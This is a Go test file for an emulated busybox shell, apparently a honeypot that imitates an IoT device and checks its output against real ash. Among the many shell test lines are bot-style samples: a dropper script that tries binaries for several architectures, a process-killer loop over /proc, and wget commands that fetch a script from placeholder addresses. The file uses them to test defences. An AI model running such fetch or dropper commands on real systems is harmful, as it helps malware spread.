package busybox

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// The fingerprints an adversarial review found (issue 7, stop 5), each
// compared with real ash: the same lines run in our shell and in Debian's
// busybox sh -c, in a directory tree built the same way on both sides.

// treeSetup builds the tree both shells run in.
const treeSetup = `mkdir -p d/a/b d/c && touch d/f d/a/g d/a/b/h d/.hid && cd d`

// lineNo is the "line N: " that sh -c puts in its error messages and
// interactive ash (the device's login shell) does not.
var lineNo = regexp.MustCompile(`line \d+: `)

// appletDir makes a directory of links to busybox for the applets the
// compared lines use, for real ash's PATH.
func appletDir(t *testing.T, bb string) string {
	t.Helper()
	bin := t.TempDir()
	for _, a := range []string{"busybox", "sh", "mkdir", "touch", "ls", "cat", "echo", "rm", "chmod", "expr", "id", "printf", "sleep", "wc",
		"rmdir", "xargs", "gzip", "gunzip", "find", "grep", "head", "tail", "cp", "mv", "tee", "sort"} {
		if err := os.Symlink(bb, filepath.Join(bin, a)); err != nil {
			t.Fatal(err)
		}
	}
	return bin
}

// realAsh runs line with Debian's busybox in a fresh directory, with the
// applets of bin on PATH, and returns its output with sh -c's line
// numbers taken out.
func realAsh(t *testing.T, bb, bin, line string) string {
	t.Helper()
	cmd := exec.Command(bb, "sh", "-c", line)
	cmd.Env = []string{"PATH=" + bin, "HOME=/"}
	cmd.Dir = t.TempDir()
	out, _ := cmd.CombinedOutput()
	return lineNo.ReplaceAllString(string(out), "")
}

func TestFingerprintsAgreeWithAsh(t *testing.T) {
	bb, err := exec.LookPath("busybox")
	if err != nil {
		t.Skip("no busybox (apt-get install -y busybox)")
	}
	bin, dev := appletDir(t, bb), newTestDevice(t, DefaultProfile(), Limits{})
	for _, l := range []string{
		// 1. Command substitution nested deep.
		`echo $(echo $(echo $(echo hi)))`, `echo $(echo $(echo $(echo $(echo $(echo five)))))`,
		"echo $(echo `echo bq` $(echo \"$(echo q)\"))", `x=$(echo $(echo a) $(echo $(echo b))); echo "$x"`,
		// 2. Command substitution inside arithmetic.
		`echo $(( $(echo 2) + 3 ))`, `x=5; echo $((x+$(echo 1)))`, `echo $(( $(echo 1) ? $(echo 7) : 0 ))`,
		"echo $((`echo 4`*2))", `n=3; echo $(( $(echo $n) * ${n} ))`, `echo $(( $(echo 1) + $((2*3)) ))`,
		// 3. Parameter expansion with a word of its own.
		`echo ${x:-${y:-b}}`, `echo ${x:-${y:-${z:-deep}}}`, `y=1; echo ${x:-$y} ${x:-"$y q"}`, `echo "${x:-"a b"}" ${x:-'q r'}`,
		"echo ${x:-`echo bq`} ${x:-$(echo cs)} ${x:-\"$(echo c d)\"}", `x=; echo ${x:-${#HOME}}`, `echo ${x:-a\}b} "${x:-a}}"`,
		`x=abc; echo ${#x} ${x#a} ${x%c} ${x:=v} ${x:+v} ${u:+v} ${x+set}`, `echo ${x:=a b}; echo "$x"`, `echo ${x=1} ${x:=2} $x`,
		`a=a.b.c; p=.*; echo ${a%$p} ${a%"$p"} "${a%.*}" ${a##*.} "${a#*.}"`, `a=/usr/bin/x; echo ${a##*/} ${a%/*}`,
		`a=abcb; echo ${a/b/X} ${a//b/"Y Z"}`, `a=abc; echo ${a:1:1} ${a: -2} ${a:$((0+1))}`, `set -- a b; echo ${1:-z} ${3:-z} ${#1}`,
		`echo ${u?msg}; echo after`, `echo ${u:?}; echo after`, `echo ${u?}`, `x=1; echo ${x?unused}`, `echo "${x:-*}" ${x:-f}`,
		`echo ${x-'$y'} ${x:-"}"}`, `echo ${x:+a}${x:-b}${#x}`,
		// 4. Globs in every path component.
		`echo */*`, `echo */*/*`, `echo ./*/g`, `echo */`, `echo a/*`, `echo .*`, `echo .*/`, `echo *`, `echo ?/?`, `echo [ac]/*`,
		`echo */nothere`, `echo */g`, `echo "a"/*`, `echo a\/*`, `echo a//*`, `echo ../d/a/*`, `cd a; echo ../*/b`, `echo */*/h`,
		// 6. $RANDOM.
		`r=$RANDOM; [ "$r" -ge 0 ] && [ "$r" -le 32767 ] && echo in-range; [ $RANDOM != $RANDOM ] || [ $RANDOM != $RANDOM ] && echo differs`,
		// 7. readonly.
		`readonly x=1; x=2; echo $? $x`, `readonly x=1; unset x; echo no`, `readonly x=1; export x=3; echo no`, `readonly y=1; echo $((y=2))`,
		`readonly x=1; for x in a; do :; done`, `readonly a=1 b; readonly`, `(readonly q=1; q=2; echo no); echo after $?`,
		`readonly x=1; x=5 true; echo no`, `readonly x=1; readonly x=2`, `readonly x=1; read x <<EOF` + "\na\nEOF\necho no",
		`readonly x=1; echo ${x:=2} $x`, `x=1; readonly x; echo $x`, `readonly x=1; echo $(x=2; echo sub $?) after`,
		// 8. exec.
		`exec 2>/dev/null; ls /nope; echo $?`, `exec >/dev/null; echo hidden`, `exec echo replaced; echo after`,
		`exec sh -c 'echo in'; echo after`, `exec >out; echo hi; ls; cat out >&2`, `exec 2>&1; echo x`, `(exec echo sub); echo after`,
		// Found by bot-like scripts diffed against ash at the same stop.
		`set -- a b c; for a; do echo $a; done`, `f() { for x; do echo "<$x>"; done; }; f "1 2" 3`,
		`x=1; f() { local x=2; echo $x; }; f; echo $x`, `f() { local u=1; }; f; echo "[${u-unset}]"`,
		`echo $((16#ff)) $((2#101)) $((36#z)) $((64#_)) $((10#08))`, `echo $((2#12))`, `echo $((1,2)) $((1, x=3)) $x`,
		`let x=3+4; echo $x $?; let x=0; echo $?`, `let 1+; echo $?`, `umask; umask 077; umask; umask -S`, `ulimit; ulimit -c`,
		"IFS= read -r line <<EOF\n  spaced  \nEOF\necho \"[$line]\"", "IFS=: read a b c <<EOF\nx:y:z:w\nEOF\necho \"$a|$b|$c\"",
		"IFS=: read a b <<EOF\nx::y\nEOF\necho \"$a|$b\"", "read a b <<EOF\n  one   two  three  \nEOF\necho \"[$a][$b]\"",
		`X=5 echo $X; echo "[$X]"`, `f() { echo "in:$V"; }; V=tmp f; echo "out:$V"`,
		`eval 'if'`, `eval 'if true; then'`, `eval 'while true; do'`, `eval 'case a in'`, `eval 'case a in a) echo'`, `eval 'f() {'`,
		"eval 'echo `'", `eval 'if then fi'; echo no`, `sh -c 'echo $0 $1 $#' a b`, `sh -c 'echo $0'`, `sh -c 'exit 3'; echo $?`,
		`. /nope 2>/dev/null; echo no`, `local x=1; echo no`, `readonly 1x=3; echo no`, `export 1x=3; echo no`, `cd /nope 2>/dev/null; echo $?`,
		// ash parses these and fails only when it expands them: what came
		// before on the line runs.
		`echo a; echo ${a!b}; echo b`, `echo a; echo ${}; echo b`, `x=abc; echo ${#x:-a}; echo b`, `echo a; echo ${!x}`, `echo a; echo "${ x}"`,
		`x=~; echo $x; y=a:~; echo $y`, `echo ~nobody-here ~/x x~ "~"`,
		// Scripts as droppers write them, run with sh FILE and ./FILE.
		"cat > s.sh <<'EOF'\n#!/bin/sh\nBINS=\"mips mpsl arm arm7 x86\"\nfor b in $BINS; do\n  echo \"trying $b\"\n  [ -f ./bot.$b ] && echo have || echo \"no bot.$b\"\ndone\n" +
			"x=0\nwhile [ $x -lt 3 ]; do\n  x=`expr $x + 1`\ndone\necho \"x=$x\"\ncase \"$1\" in\n  start) echo starting;;\n  *) echo \"usage: $0 start\";;\nesac\nexit 0\nEOF\n" +
			"sh s.sh; echo rc=$?; sh s.sh start; chmod +x s.sh; ./s.sh start",
		"cat > k.sh <<'EOF'\nkiller() {\n  for p in /proc/[0-9]*; do\n    pid=${p##*/}\n    [ \"$pid\" = \"$$\" ] && continue\n    :\n  done\n  echo killed\n}\nkiller\nEOF\nsh k.sh",
		`printf 'a=1\nb=2\n' > conf; . ./conf; echo $a$b`, `echo '#!/bin/sh' > u.sh; echo 'echo $#' >> u.sh; chmod 755 u.sh; ./u.sh 1 2 3`,
		`for i in 1 2 3; do echo $i > f$i; done; cat f*; rm f*; ls f* 2>/dev/null; echo $?`, `{ echo a; echo b; } > y; cat y; (echo c; echo d) >> y; cat y`,
		`p='*'; case abc in $p) echo glob;; esac; case abc in "$p") echo lit;; esac`, `for f in */; do echo "[$f]"; done`, `v=$(cat */g); echo "[$v]"`,
		`set -- "a b" c; for i in "$@"; do echo "<$i>"; done; for i in $@; do echo "[$i]"; done; for i in "$*"; do echo "{$i}"; done`,
		`sh -c 'exec >/dev/null; echo hidden'; echo after`, `(exec >/dev/null; echo hidden); echo after`, `x=$(exec 2>&1; ls /nope); echo "[$x]"`,
		`exec >o; echo one; echo two; exec >/dev/null; echo three; cat o >&2`, `f() { exec >o2; echo in; }; f; echo out; cat o2 >&2`,
		`{ exec 2>&1; ls /nope; } | cat`, `sh -c 'exec 2>&1; ls /nope' | cat`, `echo a | (exec >/dev/null; cat); echo b`, `exec ./nothere; echo no`,
		`echo "[${!:-none}]"`, `sleep 0 & p=$!; [ "$p" -gt 1 ] && echo pid; sleep 0 & [ $! != $p ] && echo new`,
		`x=a/b/c; echo ${x//\//_} ${x/\//-} "${x//\//.}"`, `x=a.b; echo ${x/./"/"} ${x//[.]/}`,
		// Applets found wrong on the way.
		`rmdir a; echo $?; ls | cat`, `rmdir c f nonexist; echo $?; ls | cat`, `echo a b c | xargs -n1 echo`, `echo a b c d e | xargs -n 2 echo`,
		`echo hi | gzip | gunzip`, `echo hi | gzip -c | gunzip -c`,
		`find . -name g -exec echo found {} \;`, `find a/b c -type f -exec echo {} +`, `touch a/b/i; find a/b -type f -exec echo {} + | wc -w`, `find a -name h -exec cat {} \; -print`, `echo x > a/g; grep -r x . | sort`,
		`echo x > a/g; grep -rl x .`, `echo y > f; grep -rn y a f | sort`, `echo 1 > f; head -n1 f a/b/h 2>&1; tail -n 1 f f`, `cp -r a a2; ls -R a2 | cat`,
		`mv a c/ && ls -R c | cat`, `mv a a/b 2>/dev/null; echo $?`, `echo x | tee t1 t2 >/dev/null; cat t1 t2`, `ls -A | cat`, `ls -aA | head -2`, `echo 1 > f; echo 2 > a/g; wc -l f a/g; wc -l f`,
		// 9. ls -R.
		// (Through cat: on a terminal ls prints columns.)
		`ls -R | cat`, `cd ..; ls -R d | cat`, `ls -R a c | cat`, `ls a c f | cat`, `ls f a | cat`, `ls -R f`, `ls -a | cat`, `ls -Ra a | cat`,
		`ls -R1 /nope a`, `ls -R a/b/h a/b`, `ls --color=never a | cat`, `ls -1 --color=auto c a`,
	} {
		want := realAsh(t, bb, bin, treeSetup+"\n"+l)
		sh := dev.NewShell(context.Background())
		sh.run(context.Background(), "cd /tmp && "+treeSetup)
		if got := string(sh.run(context.Background(), l)); got != want {
			t.Errorf("%q\n real ash: %q\n ours:     %q", l, want, got)
		}
		sh.Close()
	}
}

// TestLongRunningLine: a line that hits the shell's budgets goes on
// "running" as it would on a device (no prompt, type-ahead not run) until
// ^C, and says which budget it hit.
func TestLongRunningLine(t *testing.T) {
	for _, tc := range []struct{ line, limit, prefix string }{
		{`while true; do echo x; done`, "loop", "x\nx\n"},
		{`i=0; while :; do i=$((i+1)); done`, "loop", ""},
		{`for i in $(seq 1 5000); do :; done`, "loop", ""},
		{`while true; do i=0; while [ $i -lt 900 ]; do i=$((i+1)); done; done`, "steps", ""},
		{`echo start; while true; do echo y; done | wc -l`, "loop", "start\n"},
		{strings.Repeat("echo $(", maxSubst+1) + "x" + strings.Repeat(")", maxSubst+1), "parse", ""},
	} {
		sh := newTestDevice(t, DefaultProfile(), Limits{}).NewShell(context.Background())
		r := sh.Run(tc.line)
		if r.Limit != tc.limit || !r.Running || !strings.HasPrefix(string(r.Output), tc.prefix) || r.Exited || r.Limited {
			t.Errorf("%q: limit %q running %v exited %v output %.40q", tc.line, r.Limit, r.Running, r.Exited, r.Output)
		}
		if sh.Prompt() != "" || !sh.Busy() {
			t.Errorf("%q: prompt %q while running", tc.line, sh.Prompt())
		}
		// Typed while it runs: echoed by the tty, never run.
		if r := sh.Run("echo typed-ahead > /tmp/ta"); len(r.Output) != 0 || !r.Running {
			t.Errorf("%q: type-ahead answered %q", tc.line, r.Output)
		}
		// Its URLs are intel all the same, as not run.
		if r := sh.Run("wget http://203.0.113.9/x.sh -O /tmp/x.sh"); len(r.Output) != 0 || len(r.Downloads) != 1 ||
			r.Downloads[0].URL != "http://203.0.113.9/x.sh" || r.Downloads[0].Ran || r.Downloads[0].Tool != "wget" {
			t.Errorf("%q: type-ahead URL: %+v", tc.line, r.Downloads)
		}
		if out := string(sh.Interrupt()); out != "^C\n" || sh.Busy() || sh.Prompt() != "~ # " {
			t.Errorf("%q: ^C shows %q, prompt %q", tc.line, out, sh.Prompt())
		}
		if r := sh.Run("echo $?; cat /tmp/ta"); string(r.Output) != "130\ncat: can't open '/tmp/ta': No such file or directory\n" || r.Running {
			t.Errorf("%q: after ^C: %q", tc.line, r.Output)
		}
		sh.Close()
	}
	// A job in the background runs past its budget without holding the
	// line: the prompt comes back, the record says a limit was hit.
	sh := newTestDevice(t, DefaultProfile(), Limits{}).NewShell(context.Background())
	r := sh.Run(`while true; do wget -q -O /dev/null http://198.51.100.7/; done & echo started`)
	if r.Running || string(r.Output) != "started\n" || r.Limit != "loop" || sh.Prompt() != "~ # " {
		t.Errorf("background loop: running %v output %q limit %q", r.Running, r.Output, r.Limit)
	}
	// Recursion past the bound crashes ash: a nested shell's parent says
	// so, the login shell dies.
	if out := string(sh.Run(`sh`).Output); out != "" {
		t.Fatalf("sh: %q", out)
	}
	r = sh.Run(`f() { f; }; f; echo after`)
	if string(r.Output) != "Segmentation fault\n" || r.Exited || r.Limit != "calls" || r.Running {
		t.Errorf("recursion in a nested shell: %q exited %v limit %q", r.Output, r.Exited, r.Limit)
	}
	if r = sh.Run(`f() { f; }; f; echo after`); len(r.Output) != 0 || !r.Exited {
		t.Errorf("recursion in the login shell: %q exited %v", r.Output, r.Exited)
	}
	sh.Close()
}

// TestHereDocumentNotCommands: a here-document's body lines are not
// commands, so a long one does not use up Limits.MaxCommands.
func TestHereDocumentNotCommands(t *testing.T) {
	sh := newTestDevice(t, DefaultProfile(), Limits{MaxCommands: 3}).NewShell(context.Background())
	defer sh.Close()
	if r := sh.Run("cat <<EOF >/tmp/s.sh"); !r.Continue || r.Limited {
		t.Fatalf("opening line: %+v", r)
	}
	for i := 0; i < 50; i++ {
		if r := sh.Run("echo line " + strings.Repeat("x", i%7)); !r.Continue || r.Limited {
			t.Fatalf("body line %d: continue %v limited %v", i, r.Continue, r.Limited)
		}
	}
	if r := sh.Run("EOF"); r.Continue || r.Limited || len(r.Output) != 0 {
		t.Fatalf("delimiter: %+v", r)
	}
	if r := sh.Run("wc -l /tmp/s.sh"); string(r.Output) != "50 /tmp/s.sh\n" || !r.Limited {
		t.Errorf("after the document: %q limited %v (the third command)", r.Output, r.Limited)
	}
}

// TestExecAcrossLines: exec's redirections last for the lines after, as in
// the login shell; exec of a command ends the session when it ends.
func TestExecAcrossLines(t *testing.T) {
	sh := newTestDevice(t, DefaultProfile(), Limits{}).NewShell(context.Background())
	defer sh.Close()
	for _, tc := range []struct{ line, want string }{
		{"exec 2>/dev/null", ""},
		{"ls /nope; echo $?", "1\n"},
		{"exec 2>/dev/tty >/tmp/out", ""},
		{"echo one; ls /nope", "ls: /nope: No such file or directory\n"},
		{"echo two", ""},
		{"exec >/dev/tty", ""},
		{"cat /tmp/out", "one\ntwo\n"},
		{"sh -c 'exec >/dev/null'; echo still", "still\n"},
		{"exec sh", ""},
		{"echo same shell", "same shell\n"},
	} {
		if r := sh.Run(tc.line); string(r.Output) != tc.want || r.Exited {
			t.Errorf("%q: %q (exited %v), want %q", tc.line, r.Output, r.Exited, tc.want)
		}
	}
	if r := sh.Run("exec /bin/busybox true"); !r.Exited || len(r.Output) != 0 {
		t.Errorf("exec of a command: %q, exited %v", r.Output, r.Exited)
	}
}

// TestDeepArithmetic: an expression nested past any bot's (its text comes
// from a variable, so only its expansion is bounded in size) is a budget
// hit, cheap, and no message ash would not print.
func TestDeepArithmetic(t *testing.T) {
	sh := newTestDevice(t, DefaultProfile(), Limits{}).NewShell(context.Background())
	defer sh.Close()
	// 5,000 deep (x and y within the session's variable bytes).
	sh.Run(`a='(((((((((('; b='))))))))))'; x=$a$a$a$a$a$a$a$a$a$a; x=$x$x$x$x$x$x$x$x$x$x; x=$x$x$x$x$x`)
	sh.Run(`y=$b$b$b$b$b$b$b$b$b$b; y=$y$y$y$y$y$y$y$y$y$y; y=$y$y$y$y$y; echo ${#x} ${#y}`)
	start := time.Now()
	r := sh.Run(`echo before; echo $(( $x 1 $y )) $(( $x 1 $y )); echo after`)
	if d := time.Since(start); d > time.Second*raceFactor() { // a 5,000-deep recursion took 30 ms; a loaded machine, more
		t.Errorf("took %v", d)
	}
	if string(r.Output) != "before\n" || r.Limit != "parse" || !r.Running {
		t.Errorf("%q limit %q running %v", r.Output, r.Limit, r.Running)
	}
	sh.Interrupt()
	if r := sh.Run(`echo $(( ` + strings.Repeat("(", 100) + `1` + strings.Repeat(")", 100) + ` ))`); string(r.Output) != "1\n" {
		t.Errorf("100 deep: %q", r.Output)
	}
}

// TestHereDocumentsTyped: here-documents typed line by line at the
// prompt, as a bot pastes them: two on one line, <<- with tabs, inside
// $( ), in a loop, quoted, in a pipeline. Each body line waits with "> ".
func TestHereDocumentsTyped(t *testing.T) {
	sh := newTestDevice(t, DefaultProfile(), Limits{}).NewShell(context.Background())
	defer sh.Close()
	for _, tc := range []struct{ line, want string }{
		{"cat <<A; cat <<-B", "> "}, {"a1", "> "}, {"A", "> "}, {"\tb1", "> "}, {"\tB", "a1\nb1\n"},
		{"x=$(cat <<EOF", "> "}, {"in $((1+1))", "> "}, {"EOF", "> "}, {")", ""}, {`echo "$x"`, "in 2\n"},
		{"for i in 1 2; do cat <<E", "> "}, {"i=$i", "> "}, {"E", "> "}, {"done", "i=1\ni=2\n"},
		{"cat <<'Q'", "> "}, {"$HOME `id`", "> "}, {"Q", "$HOME `id`\n"},
		{"cat <<E | wc -l", "> "}, {"1", "> "}, {"2", "> "}, {"E", "2\n"},
	} {
		r := sh.Run(tc.line)
		got := string(r.Output)
		if r.Continue {
			got = sh.Prompt()
		}
		if got != tc.want {
			t.Errorf("%q: %q, want %q", tc.line, got, tc.want)
		}
	}
}

// TestRunScriptRunning: a script that hits a budget reports it; the next
// script (a new sh -c) runs and is not reported as still running.
func TestRunScriptRunning(t *testing.T) {
	sh := newTestDevice(t, DefaultProfile(), Limits{}).NewShell(context.Background())
	defer sh.Close()
	if r := sh.RunScript("while :; do :; done"); !r.Running || r.Limit != "loop" {
		t.Errorf("endless script: running %v limit %q", r.Running, r.Limit)
	}
	if r := sh.RunScript("echo next"); r.Running || r.Limit != "" || string(r.Output) != "next\n" {
		t.Errorf("next script: %q running %v limit %q", r.Output, r.Running, r.Limit)
	}
}
